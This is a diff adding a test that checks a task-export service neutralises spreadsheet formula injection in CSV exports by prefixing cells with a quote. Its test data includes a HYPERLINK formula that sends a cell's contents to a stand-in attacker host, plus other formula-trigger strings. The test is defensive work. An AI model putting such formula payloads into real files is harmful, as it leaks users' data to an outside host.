@@ -425,3 +425,20 @@ def test_a_50k_task_export_streams_with_bounded_buffers(
     assert calls.count("UploadPart") == parts
     # And the tasks were read page by page (pages of READ_PAGE), never all at once
     assert calls.count("Query") >= 50_000 // export_reader.READ_PAGE
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(aws: Aws, admin: Actor) -> None:
+    # Given tasks whose caller-chosen external ids start like spreadsheet formulas
+    project_id = create_project(admin, "text", NER_LABELS)
+    hostile = ['=HYPERLINK("https://evil.example/?q="&A1,"open")', "+1+1", "-1", "@SUM(A1)", "\uff0b1"]
+    items = [{"data": {"text": f"text {i}"}, "external_id": e} for i, e in enumerate(hostile)]
+    created = call("POST", f"/projects/{project_id}/tasks", admin, items)
+    assert created.status == 201, created.body
+    # When the project is exported as CSV
+    _, data = _export(aws, admin, project_id, {"format": "csv"})
+    # Then each such cell is written with a leading single quote, so it is shown as text
+    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
+    assert sorted(r["external_id"] for r in rows) == sorted("'" + e for e in hostile)
+    # And JSON Lines keeps the values as they were sent
+    _, lines = _export(aws, admin, project_id, {"format": "jsonl"})
+    assert sorted(json.loads(x)["external_id"] for x in lines.decode().splitlines()) == sorted(hostile)
